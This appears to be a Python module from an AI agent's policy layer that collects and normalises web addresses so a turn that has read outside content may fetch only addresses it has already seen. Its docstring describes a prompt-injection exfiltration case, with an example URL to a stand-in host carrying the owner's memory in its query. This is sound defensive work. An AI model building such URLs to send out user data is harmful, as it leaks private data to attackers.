"""Web addresses a turn has seen, and the one form they are compared in.

Once a turn has read outside content, the model may have been told to carry what it read
somewhere: to put it in a URL (``http://evil.example/c?d=<the owner's memory>``) and fetch
that. A page cannot know the owner's data, so an address that appears verbatim in what the
turn was given (the person's own message) or read (a link on the fetched page, a search
result) carries nothing the page did not already have; an address the model built may carry
anything. So a tainted turn fetches and opens only addresses it has seen
(:mod:`agent.policy`); any other one waits for approval.

Addresses are compared without their ``#fragment`` (it never reaches the server), with the
scheme and host in lower case, an empty path as ``/`` and the default port dropped; nothing
else is normalised, so a query the model changed is a different address.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

from yarl import URL

# An address written out in text: up to whitespace, quotes, angle brackets or the brackets
# markdown puts around a link (a closing parenthesis inside an address is kept when its
# opening one is there too: Wikipedia's ``Foo_(bar)``).
_WRITTEN = re.compile(r"https?://[^\s<>\"'`\[\]{}|\\^]+", re.IGNORECASE)
# What the person may write without a scheme: ``example.com/page``, ``www.example.org``.
_BARE = re.compile(
    r"(?<![\w@./:-])((?:[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?\.)+[a-z]{2,24}(?::\d{1,5})?"
    r"(?:/[^\s<>\"'`\[\]{}|\\^]*)?)",
    re.IGNORECASE,
)
_TRAILING = ".,;:!?'\"*_"
_DEFAULT_PORTS = {"http": 80, "https": 443}


def canonical(address: str) -> str | None:
    """``address`` in the form seen addresses are compared in, or ``None`` when it is not
    an absolute http(s) address."""
    try:
        url = URL(address.strip())
    except (ValueError, TypeError):
        return None
    scheme = (url.scheme or "").lower()
    if scheme not in _DEFAULT_PORTS or not url.raw_host:
        return None
    port = url.explicit_port
    shown_port = "" if port is None or port == _DEFAULT_PORTS[scheme] else f":{port}"
    query = f"?{url.raw_query_string}" if url.raw_query_string else ""
    return f"{scheme}://{url.raw_host.lower()}{shown_port}{url.raw_path or '/'}{query}"


def addresses_in(texts: Iterable[str], *, bare: bool = False) -> set[str]:
    """The web addresses written in ``texts``, canonical. ``bare``: also those written
    without a scheme (``example.com/page``), as either scheme: how people write them in
    their own messages."""
    found: set[str] = set()
    for text in texts:
        for match in _WRITTEN.finditer(text):
            found.update(_variants(match.group(0)))
        if bare:
            for match in _BARE.finditer(text):
                written = match.group(1)
                for scheme in ("https://", "http://"):
                    found.update(_variants(scheme + written))
    return found


def first_unseen(texts: Iterable[str], seen: set[str]) -> str | None:
    """The first web address written in ``texts`` that is not in ``seen`` (as written,
    or without what follows it in prose), or ``None``."""
    for text in texts:
        for match in _WRITTEN.finditer(text):
            shown = _variants(match.group(0))
            if shown and not shown & seen:
                return match.group(0)
    return None


def _variants(written: str) -> set[str]:
    """``written`` as an address, also without what usually follows an address in prose
    (a full stop, a closing parenthesis it did not open)."""
    shown = set()
    candidates = [written]
    trimmed = written.rstrip(_TRAILING)
    while trimmed.endswith(")") and trimmed.count(")") > trimmed.count("("):
        trimmed = trimmed[:-1].rstrip(_TRAILING)
    candidates.append(trimmed)
    for candidate in candidates:
        address = canonical(candidate)
        if address is not None:
            shown.add(address)
    return shown
